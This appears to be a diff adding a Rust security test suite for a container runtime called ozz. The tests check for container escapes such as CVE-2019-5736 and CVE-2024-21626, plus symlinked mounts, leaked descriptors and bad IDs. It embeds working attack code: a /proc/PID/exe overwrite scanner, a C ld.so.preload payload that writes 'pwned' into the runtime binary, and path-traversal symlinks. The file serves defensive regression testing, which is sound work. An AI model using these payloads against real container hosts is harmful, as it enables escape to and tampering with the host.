@@ -1,0 +1,686 @@
+//! Security: what a container must never reach of the host — the runtime
+//! binary (CVE-2019-5736), host descriptors, host directories through cwd
+//! (CVE-2024-21626) or symlinked mount destinations, the host's processes —
+//! and IDs that could escape the state directory.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+use serde_json::json;
+use spec_tests::*;
+
+/// A private copy of the ozz binary, run instead of the real one by the
+/// tests that attack it, so a successful attack cannot break the suite.
+struct OzzCopy {
+    path: PathBuf,
+    original: Vec<u8>,
+    /// OZZ_EXE_SEAL for every invocation (None: the default, auto).
+    seal: Option<&'static str>,
+}
+
+impl OzzCopy {
+    fn new(tag: &str) -> OzzCopy {
+        let original = std::fs::read(ozz_bin()).expect("read the ozz binary");
+        let dir = workspace().join("target/spec-tests");
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join(format!("ozz-copy-{}-{tag}", std::process::id()));
+        std::fs::write(&path, &original).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        OzzCopy {
+            path,
+            original,
+            seal: None,
+        }
+    }
+
+    fn cmd(&self, args: &[&str]) -> Command {
+        let mut cmd = Command::new(&self.path);
+        cmd.arg("--root").arg(state_root()).args(args);
+        cmd.stdin(Stdio::null());
+        if let Some(seal) = self.seal {
+            cmd.env("OZZ_EXE_SEAL", seal);
+        }
+        cmd
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        self.cmd(args).output().expect("run the ozz copy")
+    }
+
+    /// create + start with stdio on /dev/null (the container outlives us).
+    fn create_and_start(&self, b: &Bundle) {
+        b.write();
+        let status = self
+            .cmd(&["create", "--bundle", b.dir.to_str().unwrap(), &b.id])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .unwrap();
+        assert!(status.success(), "create with the ozz copy failed");
+        let out = self.run(&["start", &b.id]);
+        assert!(out.status.success(), "start: {}", stderr(&out));
+    }
+
+    fn assert_unchanged(&self) {
+        let now = std::fs::read(&self.path).expect("read the ozz copy");
+        assert!(
+            now == self.original,
+            "the runtime binary was modified from inside the container"
+        );
+    }
+}
+
+impl Drop for OzzCopy {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file(&self.path);
+    }
+}
+
+/// A writable private copy of the shared rootfs, removed on drop.
+struct PrivateRootfs(PathBuf);
+
+impl PrivateRootfs {
+    fn new(tag: &str) -> PrivateRootfs {
+        let dir = workspace().join(format!(
+            "target/spec-tests/rootfs-{}-{}",
+            std::process::id(),
+            unique_id(tag)
+        ));
+        let status = Command::new("cp")
+            .arg("-a")
+            .arg(shared_rootfs())
+            .arg(&dir)
+            .status()
+            .unwrap();
+        assert!(status.success(), "cp -a rootfs");
+        PrivateRootfs(dir)
+    }
+}
+
+impl Drop for PrivateRootfs {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// A host directory outside every rootfs, with a marker file in it.
+struct HostMarker {
+    dir: PathBuf,
+    secret: String,
+}
+
+impl HostMarker {
+    fn new(tag: &str) -> HostMarker {
+        let dir = PathBuf::from(format!("/tmp/ozz-host-marker-{}", unique_id(tag)));
+        std::fs::create_dir_all(&dir).unwrap();
+        let secret = format!("host-secret-{}", unique_id("s"));
+        std::fs::write(dir.join("marker"), &secret).unwrap();
+        HostMarker { dir, secret }
+    }
+
+    fn assert_untouched(&self) {
+        let names: Vec<String> = std::fs::read_dir(&self.dir)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        assert_eq!(names, vec!["marker".to_string()], "host dir changed");
+        assert_eq!(
+            std::fs::read_to_string(self.dir.join("marker")).unwrap(),
+            self.secret
+        );
+        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+        assert!(
+            !mountinfo.contains(self.dir.to_str().unwrap()),
+            "a mount appeared on the host at {:?}",
+            self.dir
+        );
+    }
+}
+
+impl Drop for HostMarker {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.dir);
+    }
+}
+
+fn add_tmpfs(b: &mut Bundle, dest: &str) {
+    b.config["mounts"].as_array_mut().unwrap().push(json!({
+        "destination": dest, "type": "tmpfs", "source": "tmpfs", "options": ["mode=1777"]
+    }));
+}
+
+fn add_caps(b: &mut Bundle, names: &[&str]) {
+    for set in ["bounding", "effective", "permitted"] {
+        let list = b.config["process"]["capabilities"][set]
+            .as_array_mut()
+            .unwrap();
+        for n in names {
+            list.push(json!(n));
+        }
+    }
+}
+
+/// The scanner of CVE-2019-5736: look for any process whose executable is
+/// not the container's busybox (that is the runtime) and try to open it for
+/// writing through /proc/PID/exe. Logs what it saw and any success.
+const EXE_SCANNER: &str = r#"
+while :; do
+  for d in /proc/[0-9]*; do
+    e=$(readlink $d/exe 2>/dev/null) || continue
+    case "$e" in ""|/bin/busybox) ;; *)
+      grep -qxF "SAW $e" /tmp/scan.log 2>/dev/null || echo "SAW $e" >> /tmp/scan.log
+      if (: > $d/exe) 2>/dev/null; then echo "WROTE $e" >> /tmp/scan.log; fi
+      if (echo x >> $d/exe) 2>/dev/null; then echo "WROTE $e" >> /tmp/scan.log; fi
+    ;; esac
+  done
+done
+"#;
+
+#[test]
+fn cve_2019_5736_runtime_binary_not_writable_during_exec() {
+    let ozz = OzzCopy::new("scan");
+    let mut b = bundle("cve-5736-scan", &["sh", "-c", EXE_SCANNER]);
+    add_caps(&mut b, &["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"]);
+    add_tmpfs(&mut b, "/tmp");
+    ozz.create_and_start(&b);
+    for _ in 0..40 {
+        let out = ozz.run(&["exec", &b.id, "sh", "-c", "sleep 0.02; echo ok"]);
+        assert!(out.status.success(), "exec: {}", stderr(&out));
+        assert_eq!(stdout(&out), "ok\n");
+    }
+    let log = ozz.run(&[
+        "exec",
+        &b.id,
+        "sh",
+        "-c",
+        "cat /tmp/scan.log 2>/dev/null; true",
+    ]);
+    let log = stdout(&log);
+    eprintln!("scanner log:\n{log}");
+    assert!(!log.contains("WROTE"), "{log}");
+    ozz.assert_unchanged();
+}
+
+/// The original exploit: a script whose interpreter is /proc/self/exe makes
+/// the runtime's own binary run in the container, where the container's
+/// dynamic loader loads a library named in /etc/ld.so.preload. Its
+/// constructor opens /proc/self/exe for writing, and keeps an O_PATH fd to
+/// reopen it for writing after the runtime has exited.
+#[test]
+fn cve_2019_5736_proc_self_exe_shebang() {
+    // The default view (read-only overlay where possible) and the memfd
+    // fallback: both must keep the host binary intact.
+    for seal in ["auto", "memfd"] {
+        shebang_attack(seal);
+    }
+}
+
+fn shebang_attack(seal: &'static str) {
+    let mut ozz = OzzCopy::new(&format!("shebang-{seal}"));
+    ozz.seal = Some(seal);
+    let rootfs = PrivateRootfs::new("shebang");
+    let root = &rootfs.0;
+    std::fs::write(root.join("evil.sh"), "#!/proc/self/exe\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(root.join("evil.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    // Give the container the loader and libraries ozz needs, plus the payload.
+    let have_payload = install_loader_and_payload(&ozz.path, root);
+    let mut b = bundle("cve-5736-shebang", &["sleep", "100"]);
+    b.config["root"]["path"] = json!(root);
+    add_tmpfs(&mut b, "/tmp");
+    ozz.create_and_start(&b);
+    for _ in 0..3 {
+        let out = ozz.run(&["exec", &b.id, "/evil.sh"]);
+        eprintln!(
+            "[{seal}] exec /evil.sh: {:?} {}{}",
+            out.status.code(),
+            stdout(&out),
+            stderr(&out)
+        );
+    }
+    if have_payload {
+        // Let the payload's background loop retry after ozz has exited.
+        std::thread::sleep(std::time::Duration::from_millis(2500));
+        let out = ozz.run(&["exec", &b.id, "cat", "/tmp/exploit.log"]);
+        let log = stdout(&out);
+        eprintln!("[{seal}] payload log:\n{log}");
+        assert!(
+            log.contains("direct-open:"),
+            "[{seal}] the payload never ran, the test proves nothing: {log}{}",
+            stderr(&out)
+        );
+        // A sealed memfd may be opened for writing, but never written.
+        assert!(
+            !log.contains("write: OK") && !log.contains("WROTE"),
+            "[{seal}] {log}"
+        );
+        assert!(log.contains("loop-done"), "[{seal}] {log}");
+    }
+    ozz.assert_unchanged();
+}
+
+const PAYLOAD_C: &str = r#"
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+__attribute__((constructor)) static void payload(void) {
+    int log = open("/tmp/exploit.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
+    int w = open("/proc/self/exe", O_WRONLY);
+    dprintf(log, "direct-open: %s\n", w >= 0 ? "OPENED" : strerror(errno));
+    if (w >= 0) {
+        ssize_t n = write(w, "pwned", 5);
+        dprintf(log, "write: %s\n", n == 5 ? "OK" : strerror(errno));
+    }
+    int p = open("/proc/self/exe", O_PATH);
+    dprintf(log, "opath: %d\n", p);
+    if (p >= 0 && p != 9) dup2(p, 9);
+    if (fork() == 0) {
+        setsid();
+        char *argv[] = {"sh", "-c",
+            "i=0; while [ $i -lt 40 ]; do "
+            "if (echo pwned > /proc/self/fd/9) 2>/dev/null; then echo WROTE >> /tmp/exploit.log; fi; "
+            "i=$((i+1)); sleep 0.05; done; echo loop-done >> /tmp/exploit.log", 0};
+        execv("/bin/sh", argv);
+        _exit(1);
+    }
+    _exit(0);
+}
+"#;
+
+/// Copies ozz's loader and libraries into `root` and builds the payload as
+/// /evil.so named in /etc/ld.so.preload. False when no C compiler exists
+/// (the shebang is then still executed, without a payload).
+fn install_loader_and_payload(binary: &Path, root: &Path) -> bool {
+    let ldd = Command::new("ldd").arg(binary).output();
+    let Ok(ldd) = ldd else {
+        eprintln!("no ldd: payload not installed");
+        return false;
+    };
+    for word in stdout(&ldd).split_whitespace() {
+        if word.starts_with('/') && Path::new(word).exists() {
+            let dest = root.join(word.trim_start_matches('/'));
+            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
+            // Follow symlinks: the copy is the real file under the link's name.
+            std::fs::copy(word, &dest).unwrap();
+        }
+    }
+    let src = root.join("payload.c");
+    std::fs::write(&src, PAYLOAD_C).unwrap();
+    let built = Command::new("cc")
+        .args(["-shared", "-fPIC", "-o"])
+        .arg(root.join("evil.so"))
+        .arg(&src)
+        .status();
+    match built {
+        Err(_) => {
+            eprintln!("no C compiler (cc): payload not installed, only the shebang runs");
+            return false;
+        }
+        Ok(s) => assert!(s.success(), "cc failed to build the payload"),
+    }
+    std::fs::write(root.join("etc/ld.so.preload"), "/evil.so\n").unwrap();
+    true
+}
+
+fn fd_list(text: &str) -> Vec<u32> {
+    let mut fds: Vec<u32> = text
+        .split_whitespace()
+        .filter_map(|w| w.parse().ok())
+        .collect();
+    fds.sort();
+    fds
+}
+
+/// Runs `ozz run` from a host shell that first opens `redirs` without
+/// close-on-exec (e.g. "3</etc/hostname"), passing `extra` to run.
+fn run_with_open_fds(b: &Bundle, redirs: &str, extra: &[&str]) -> Output {
+    b.write();
+    let mut args = vec![
+        "--root".to_string(),
+        state_root().to_str().unwrap().to_string(),
+        "run".to_string(),
+    ];
+    args.extend(extra.iter().map(|s| s.to_string()));
+    args.extend([
+        "--bundle".to_string(),
+        b.dir.to_str().unwrap().to_string(),
+        b.id.clone(),
+    ]);
+    Command::new("sh")
+        .arg("-c")
+        .arg(format!("exec {redirs}; exec \"$0\" \"$@\""))
+        .arg(ozz_bin())
+        .args(&args)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn host_descriptors_do_not_reach_the_container() {
+    let b = bundle("fds", &["ls", "/proc/self/fd"]);
+    let out = run_with_open_fds(&b, "3</etc/hostname 4</etc/passwd 7</ 9</tmp", &[]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    // 0-2, and 3 for the directory ls itself opened.
+    assert_eq!(fd_list(&stdout(&out)), vec![0, 1, 2, 3], "{}", stdout(&out));
+
+    // The same for `ozz exec`.
+    let b = bundle("fds-exec", &["sleep", "100"]);
+    b.create_ok();
+    assert!(b.cmd("start", &[]).status.success());
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg("exec 3</etc/hostname 4</etc/passwd 7</ 9</tmp; exec \"$0\" \"$@\"")
+        .arg(ozz_bin())
+        .arg("--root")
+        .arg(state_root())
+        .args(["exec", &b.id, "ls", "/proc/self/fd"])
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(fd_list(&stdout(&out)), vec![0, 1, 2, 3], "{}", stdout(&out));
+}
+
+#[test]
+fn preserve_fds_passes_exactly_the_asked_descriptors() {
+    let marker = HostMarker::new("preserve");
+    let b = bundle(
+        "fds-preserve",
+        &["sh", "-c", "cat <&3; echo; ls /proc/self/fd"],
+    );
+    let redirs = format!(
+        "3<{} 4</etc/passwd 8</",
+        marker.dir.join("marker").display()
+    );
+    let out = run_with_open_fds(&b, &redirs, &["--preserve-fds", "1"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = stdout(&out);
+    let (first, rest) = text.split_once('\n').unwrap();
+    assert_eq!(first, marker.secret);
+    // 0-3, and 4 for the directory ls opened.
+    assert_eq!(fd_list(rest), vec![0, 1, 2, 3, 4], "{text}");
+}
+
+/// CVE-2024-21626: a cwd through /proc/self/fd/N must never land outside the
+/// container's root, whatever descriptors the runtime or its caller hold.
+#[test]
+fn cwd_through_proc_self_fd_never_reaches_the_host() {
+    let marker = HostMarker::new("cwd");
+    let rel = format!("../../../../../../../..{}/marker", marker.dir.display());
+    let script = format!("cat {rel} 2>/dev/null; cat /proc/self/cwd/{rel} 2>/dev/null; pwd");
+    for n in 3..=12 {
+        let mut b = bundle("cwd-fd", &["sh", "-c", &script]);
+        b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
+        // The caller leaks host directories too, as in the original attack.
+        let out = run_with_open_fds(&b, &format!("5<{} 6</ 7</tmp", marker.dir.display()), &[]);
+        let text = stdout(&out);
+        eprintln!(
+            "cwd /proc/self/fd/{n}: {:?} {:?} {:?}",
+            out.status.code(),
+            text,
+            stderr(&out).trim()
+        );
+        assert!(
+            !text.contains(&marker.secret),
+            "fd {n}: the host marker was read from the container: {text}"
+        );
+        if out.status.success() {
+            assert!(
+                !text.contains("unreachable"),
+                "fd {n}: cwd outside the root: {text}"
+            );
+        } else {
+            // One clear line: a bad directory, or the check of CVE-2024-21626.
+            let err = stderr(&out);
+            assert!(
+                err.contains("outside of the container's root") || err.contains("chdir to cwd"),
+                "fd {n}: {err}"
+            );
+        }
+        assert!(!state_root().join(&b.id).exists());
+    }
+    // ozz exec --cwd with the same trick.
+    let b = bundle("cwd-fd-exec", &["sleep", "100"]);
+    b.create_ok();
+    assert!(b.cmd("start", &[]).status.success());
+    for n in 3..=12 {
+        let cwd = format!("/proc/self/fd/{n}");
+        let out = ozz(&["exec", "--cwd", &cwd, &b.id, "sh", "-c", &script]);
+        let text = stdout(&out);
+        assert!(!text.contains(&marker.secret), "exec fd {n}: {text}");
+        if out.status.success() {
+            assert!(!text.contains("unreachable"), "exec fd {n}: {text}");
+        }
+    }
+    marker.assert_untouched();
+}
+
+#[test]
+fn mount_destination_through_a_symlink_stays_inside_the_rootfs() {
+    let marker = HostMarker::new("mnt");
+    // The symlink's target missing from the rootfs, then present in it.
+    for target_in_rootfs in [false, true] {
+        let rootfs = PrivateRootfs::new("mnt");
+        let target = format!("/../../../../../../..{}", marker.dir.display());
+        std::os::unix::fs::symlink(&target, rootfs.0.join("evil")).unwrap();
+        let inside = rootfs.0.join(marker.dir.strip_prefix("/").unwrap());
+        if target_in_rootfs {
+            std::fs::create_dir_all(&inside).unwrap();
+        }
+        let mut b = bundle(
+            "mnt-symlink",
+            &[
+                "sh",
+                "-c",
+                "touch /evil/pwned && echo touched; grep -c \" $(readlink -f /evil) \" /proc/self/mountinfo",
+            ],
+        );
+        b.config["root"]["path"] = json!(rootfs.0);
+        add_tmpfs(&mut b, "/evil");
+        let out = b.run();
+        eprintln!(
+            "symlinked mount (target in rootfs: {target_in_rootfs}): {:?} {:?} {:?}",
+            out.status.code(),
+            stdout(&out),
+            stderr(&out)
+        );
+        if out.status.success() || target_in_rootfs {
+            // It landed on the symlink's target resolved inside the rootfs.
+            let text = stdout(&out);
+            assert!(text.starts_with("touched\n"), "{text}{}", stderr(&out));
+            assert_eq!(text.lines().nth(1), Some("1"), "{text}");
+            // A tmpfs: nothing of it stays in the rootfs's directory.
+            assert_eq!(std::fs::read_dir(&inside).unwrap().count(), 0);
+        } else {
+            assert!(!state_root().join(&b.id).exists());
+        }
+        marker.assert_untouched();
+    }
+}
+
+#[test]
+fn masked_path_through_a_symlink_does_not_escape() {
+    let marker = HostMarker::new("mask");
+    let rootfs = PrivateRootfs::new("mask");
+    let host_file = marker.dir.join("marker");
+    std::os::unix::fs::symlink(
+        format!("/../../../../../..{}", host_file.display()),
+        rootfs.0.join("masklink"),
+    )
+    .unwrap();
+    std::os::unix::fs::symlink("/etc/hostname", rootfs.0.join("masklink2")).unwrap();
+    let mut b = bundle("mask-symlink", &["sh", "-c", "cat /etc/hostname; echo end"]);
+    b.config["root"]["path"] = json!(rootfs.0);
+    b.config["linux"]["maskedPaths"] = json!(["/masklink", "/masklink2"]);
+    let out = b.run();
+    eprintln!(
+        "symlinked masks: {:?} {:?} {:?}",
+        out.status.code(),
+        stdout(&out),
+        stderr(&out)
+    );
+    if out.status.success() {
+        // /masklink2 masked the container's own /etc/hostname, nothing else.
+        assert_eq!(stdout(&out), "end\n");
+    }
+    marker.assert_untouched();
+    // The host can still read its file (it was not covered by /dev/null).
+    assert_eq!(std::fs::read_to_string(&host_file).unwrap(), marker.secret);
+}
+
+#[test]
+fn masking_refuses_a_fake_dev_null() {
+    for kind in ["file", "symlink"] {
+        let rootfs = PrivateRootfs::new("fakenull");
+        let fakedev = rootfs.0.join("fakedev");
+        std::fs::create_dir_all(&fakedev).unwrap();
+        match kind {
+            "file" => std::fs::write(fakedev.join("null"), "SECRET-FROM-FAKE-NULL").unwrap(),
+            _ => std::os::unix::fs::symlink("/etc/passwd", fakedev.join("null")).unwrap(),
+        }
+        let mut b = bundle("fakenull", &["sh", "-c", "cat /etc/hostname; echo end"]);
+        b.config["root"]["path"] = json!(rootfs.0);
+        let mounts = b.config["mounts"].as_array_mut().unwrap();
+        mounts.retain(|m| {
+            m["destination"] != "/dev" && !m["destination"].as_str().unwrap().starts_with("/dev/")
+        });
+        mounts.push(json!({
+            "destination": "/dev", "type": "bind",
+            "source": fakedev, "options": ["rbind", "rw"]
+        }));
+        b.config["linux"]["maskedPaths"] = json!(["/etc/hostname"]);
+        let out = b.run();
+        assert!(
+            !out.status.success(),
+            "{kind}: masking used a fake /dev/null: {}",
+            stdout(&out)
+        );
+        assert!(
+            stderr(&out).contains("/dev/null is not the null device"),
+            "{kind}: {}",
+            stderr(&out)
+        );
+        assert!(!state_root().join(&b.id).exists());
+    }
+}
+
+#[test]
+fn more_bad_ids_are_refused() {
+    let b = bundle("badid2", &["true"]);
+    b.write();
+    for id in [
+        ".",
+        "",
+        "a\tb",
+        "esc\x1b[31m",
+        "del\x7f",
+        "/abs",
+        "x/../y",
+        "a b",
+        "cr\rid",
+        &"x".repeat(5000),
+    ] {
+        let out = ozz(&["create", "--bundle", b.dir.to_str().unwrap(), id]);
+        assert!(!out.status.success(), "{id:?} accepted");
+        assert_eq!(
+            stderr(&out).trim().lines().count(),
+            1,
+            "{id:?}: {}",
+            stderr(&out)
+        );
+        let out = ozz(&["state", id]);
+        assert!(!out.status.success(), "state {id:?}");
+    }
+    // Nothing was created beside or above the state root.
+    let names: Vec<String> = std::fs::read_dir(state_root())
+        .map(|d| {
+            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default();
+    assert!(
+        names
+            .iter()
+            .all(|n| !n.starts_with("esc") && !n.starts_with("del") && n != "y"),
+        "{names:?}"
+    );
+    assert!(!Path::new("/abs").exists() && !state_root().join("abs").exists());
+}
+
+#[test]
+fn pid_namespace_hides_the_hosts_processes() {
+    let me = std::process::id();
+    let b = bundle(
+        "pidns",
+        &[
+            "sh",
+            "-c",
+            "sleep 100 & echo /proc/[0-9]*; echo ---; ps -o pid,comm",
+        ],
+    );
+    let out = b.run_ok();
+    let (listing, ps) = out.split_once("---\n").unwrap();
+    // The glob is expanded by sh itself: sh (pid 1) and sleep, nothing of
+    // the host (whose processes include this test, pid `me`).
+    let mut pids: Vec<u32> = listing
+        .split_whitespace()
+        .map(|p| p.trim_start_matches("/proc/").parse().unwrap())
+        .collect();
+    pids.sort();
+    assert_eq!(pids.len(), 2, "{out}");
+    assert_eq!(pids[0], 1);
+    assert!(!pids.contains(&me) || me <= 3, "{out}");
+    // busybox sh execs its last command, so ps replaced sh as pid 1 and
+    // sees exactly the same two processes.
+    let mut ps_pids: Vec<u32> = ps
+        .lines()
+        .skip(1)
+        .map(|r| r.split_whitespace().next().unwrap().parse().unwrap())
+        .collect();
+    ps_pids.sort();
+    assert_eq!(ps_pids, pids, "ps: {ps}");
+    assert!(
+        ps.lines()
+            .any(|r| r.split_whitespace().collect::<Vec<_>>() == ["1", "ps"]),
+        "{ps}"
+    );
+}
+
+#[test]
+fn default_masked_and_readonly_paths_hold_inside() {
+    // Check the masked paths of `ozz spec` that this kernel has at all.
+    let mut script = String::new();
+    let mut want = Vec::new();
+    for file in [
+        "/proc/kcore",
+        "/proc/keys",
+        "/proc/timer_list",
+        "/proc/sched_debug",
+    ] {
+        if Path::new(file).exists() {
+            script += &format!("echo {file} $(stat -c '%F %t:%T' {file}) $(cat {file} | wc -c); ");
+            want.push(format!("{file} character special file 1:3 0"));
+        }
+    }
+    for dir in ["/proc/acpi", "/sys/firmware"] {
+        if Path::new(dir).exists() {
+            script += &format!("echo {dir} $(ls -A {dir} | wc -l); ");
+            want.push(format!("{dir} 0"));
+        }
+    }
+    script += "if echo 1 > /proc/sys/kernel/ns_last_pid 2>/dev/null; then echo sys-writable; else echo sys-ro; fi; \
+               if echo h > /proc/sysrq-trigger 2>/dev/null; then echo sysrq-writable; else echo sysrq-ro; fi";
+    want.push("sys-ro".to_string());
+    want.push("sysrq-ro".to_string());
+    let b = bundle("masks", &["sh", "-c", &script]);
+    let out = b.run_ok();
+    let lines: Vec<&str> = out.lines().map(str::trim).collect();
+    // Files are covered by /dev/null (char 1:3), directories by an empty
+    // read-only tmpfs; /proc/sys and /proc/sysrq-trigger are read-only.
+    assert_eq!(lines, want, "{out}");
+}
